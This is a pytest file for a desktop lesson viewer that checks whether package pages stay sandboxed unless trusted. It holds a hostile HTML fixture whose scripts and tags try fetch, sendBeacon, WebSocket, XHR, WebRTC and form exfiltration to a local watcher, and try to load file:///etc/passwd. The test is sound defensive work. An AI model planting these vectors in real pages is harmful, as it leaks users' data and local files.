"""Pages of packages reach nothing outside their package, and run nothing unless trusted."""

import urllib.request

import pytest
from lesson_kit import Node, viewer_on, write_package
from PySide6.QtTest import QTest
from PySide6.QtWidgets import QApplication
from window_kit import when_modal

from ct_desktop.ui.lesson_web.scheme import PackageScheme
from ct_desktop.ui.lessons.viewer.simple_pane import SimplePane
from ct_desktop.ui.lessons.viewer.web_pane import WebPane

HOSTILE = """<!doctype html><html><head>
<link rel="stylesheet" href="{out}/style.css"><link rel="prefetch" href="{out}/next">
<link rel="preconnect" href="{out}"><link rel="dns-prefetch" href="{out}">
<script src="{out}/far.js"></script>
<meta http-equiv="refresh" content="1; url={out}/away">
<style>body {{ background: url({out}/back.png) }} @import "{out}/more.css";</style>
</head><body ping="{out}/ping"><h1>start</h1>
<img src="{out}/pixel.gif"><img src="file:///etc/hostname" id="disk">
<iframe src="{out}/frame"></iframe><iframe src="file:///etc/passwd"></iframe>
<object data="{out}/object"></object><embed src="{out}/embed">
<video src="{out}/film.mp4" autoplay></video><audio src="{out}/sound.mp3" autoplay></audio>
<form action="{out}/form" id="form"><input name="a"></form>
<p id="place">still</p>
<script>
  document.getElementById("place").textContent = "ran";
  var out = "{out}";
  try {{ fetch(out + "/fetch").catch(function() {{}}); }} catch (e) {{}}
  try {{ navigator.sendBeacon(out + "/beacon", "x"); }} catch (e) {{}}
  try {{ new WebSocket(out.replace("http", "ws")); }} catch (e) {{}}
  try {{ new EventSource(out + "/events"); }} catch (e) {{}}
  try {{ var r = new XMLHttpRequest(); r.open("GET", out + "/xhr"); r.send(); }} catch (e) {{}}
  try {{ new Image().src = out + "/image"; }} catch (e) {{}}
  try {{ new Worker(out + "/worker.js"); }} catch (e) {{}}
  try {{ new RTCPeerConnection({{iceServers: [{{urls: "turn:127.0.0.1:{port}?transport=tcp",
         username: "a", credential: "b"}}]}}).createDataChannel("x"); }} catch (e) {{}}
  try {{ window.open(out + "/window"); }} catch (e) {{}}
  try {{ document.getElementById("form").submit(); }} catch (e) {{}}
  try {{ localStorage.setItem("a", "b"); document.title = "kept"; }} catch (e) {{}}
  setTimeout(function() {{ location.href = out + "/gone"; }}, 50);
  setTimeout(function() {{ document.getElementById("place").textContent += " to the end"; }}, 400);
</script></body></html>"""


@pytest.fixture
def hostile(library, watcher, tmp_path):
    body = HOSTILE.format(out=f"http://127.0.0.1:{watcher.port}", port=watcher.port)
    package = write_package(
        tmp_path / "hostile.imscc",
        "Hostile",
        (Node("page", "Page", "page.html"), Node("calm", "Calm", "calm.html")),
        {"page.html": body, "calm.html": "<p>calm</p>"},
    )
    return library.add(package)


def text_of(qtbot, pane, words: str) -> str:
    """The text of the page once ``words`` are in it."""
    seen: list[str] = [""]

    def look() -> bool:
        pane.page.toPlainText(seen.append)
        return words in seen[-1]

    qtbot.waitUntil(look, timeout=15_000)
    return seen[-1]


def test_the_watcher_notices_a_knock(qtbot, watcher):
    with pytest.raises(OSError):
        urllib.request.urlopen(f"http://127.0.0.1:{watcher.port}/", timeout=5)
    qtbot.waitUntil(lambda: watcher.knocks == 1)


def test_scripts_do_not_run_and_nothing_gets_out(qtbot, ui, library, hostile, watcher):
    with viewer_on(ui, library, hostile.key, "page") as viewer:
        pane = viewer.content.pane
        assert isinstance(pane, WebPane)
        assert "still" in text_of(qtbot, pane, "start")
        line = viewer.panel.trust_line
        qtbot.waitUntil(line.isVisible)
        assert line.words.text() == "This package wants to run programs of its own."
        # A refresh after a second would have led away by now.
        viewer.go("calm")
        text_of(qtbot, pane, "calm")
        assert not line.isVisible()
        viewer.go("page")
        assert "still" in text_of(qtbot, pane, "start")
    assert watcher.knocks == 0


def test_trust_is_a_deliberate_step_and_still_nothing_gets_out(
    qtbot, ui, library, hostile, watcher
):
    with viewer_on(ui, library, hostile.key, "page") as viewer:
        pane = viewer.content.pane
        text_of(qtbot, pane, "start")
        qtbot.waitUntil(viewer.panel.trust_line.isVisible)
        with when_modal(lambda: QApplication.activeModalWidget().reject()):
            viewer.panel.trust_line.button.click()
        ui.tasks.wait_idle()
        assert not library.entry(hostile.key).trusted
        with when_modal(lambda: QApplication.activeModalWidget().accept()):
            viewer.panel.trust_line.button.click()
        ui.tasks.wait_idle()
        assert library.entry(hostile.key).trusted
        assert "ran to the end" in text_of(qtbot, pane, "to the end")
        assert pane.page.url().toString() == "lesson://p/page.html"
        assert pane.page.title() != "kept"
        assert "may run" in viewer.panel.trust_line.words.text()
        viewer.panel.trust_line.button.click()
        ui.tasks.wait_idle()
        assert not library.entry(hostile.key).trusted
        text_of(qtbot, pane, "still")
    assert watcher.knocks == 0


def test_pictures_of_the_disk_stay_empty(qtbot, ui, library, hostile):
    library.trust(hostile.key, True)
    with viewer_on(ui, library, hostile.key, "page") as viewer:
        pane = viewer.content.pane
        text_of(qtbot, pane, "to the end")
        widths: list[object] = []
        pane.page.runJavaScript("document.getElementById('disk').naturalWidth", widths.append)
        qtbot.waitUntil(lambda: bool(widths))
        assert widths == [0]


def test_the_policy_of_a_page_forbids_scripts_until_trusted(qapp, library, entry):
    with library.open(entry.key) as package:
        scheme = PackageScheme(package)
        headers = {bytes(k.data()): bytes(v.data()) for k, v in scheme._headers().items()}
        assert b"script-src 'none'" in headers[b"Content-Security-Policy"]
        assert b"http" not in headers[b"Content-Security-Policy"]
        scheme.trusted = True
        headers = {bytes(k.data()): bytes(v.data()) for k, v in scheme._headers().items()}
        assert b"script-src lesson:" in headers[b"Content-Security-Policy"]
        assert b"http" not in headers[b"Content-Security-Policy"]


def test_simple_pages_say_so_and_reach_nothing(qtbot, ui, library, hostile, watcher, simple_pages):
    with viewer_on(ui, library, hostile.key, "page") as viewer:
        pane = viewer.content.pane
        assert isinstance(pane, SimplePane)
        assert "start" in pane.browser.toPlainText()
        assert "still" in pane.browser.toPlainText()
        assert viewer.panel.simple_line.isVisible()
        assert "simple form" in viewer.panel.simple_line.words.text()
    assert watcher.knocks == 0


def test_simple_pages_show_pictures_links_and_words_found(ui, library, entry, simple_pages):
    with viewer_on(ui, library, entry.key, "wie") as viewer:
        pane = viewer.content.pane
        document = pane.document
        image = document.loadResource(2, document.baseUrl().resolved("../files/foto.png"))
        assert (image.width(), image.height()) == (400, 200)
        found: list[bool] = []
        pane.find_words("Kennis", True, found.append)
        pane.find_words("nergens", True, found.append)
        assert found == [True, False]
        pane.browser.anchorClicked.emit("stap.html")
        assert viewer.place.key == "stap"
        assert "doe." in viewer.content.pane.browser.toPlainText()
        viewer.go("praat")
        assert "Wat ging er goed?" in viewer.content.pane.browser.toPlainText()


def test_a_browser_that_breaks_down_gives_way_to_simple_pages(qtbot, ui, library, entry):
    with viewer_on(ui, library, entry.key, "wie") as viewer:
        text_of(qtbot, viewer.content.pane, "Kennismaken")
        viewer.content.pane.page.load("chrome://crash")
        viewer.content.pane.broke.emit()
        assert isinstance(viewer.content.pane, SimplePane)
        assert "Kennismaken" in viewer.content.pane.browser.toPlainText()
        assert viewer.panel.simple_line.isVisible()
        viewer.go("stap")
        assert "doe." in viewer.content.pane.browser.toPlainText()


def test_keys_typed_in_the_find_bar_are_not_for_the_page(viewer):
    viewer.panel.find_bar.open_bar()
    QTest.keyClicks(viewer.panel.find_bar.field, "b f5")
    assert viewer.panel.find_bar.field.text() == "b f5"
    assert viewer.show_window is None
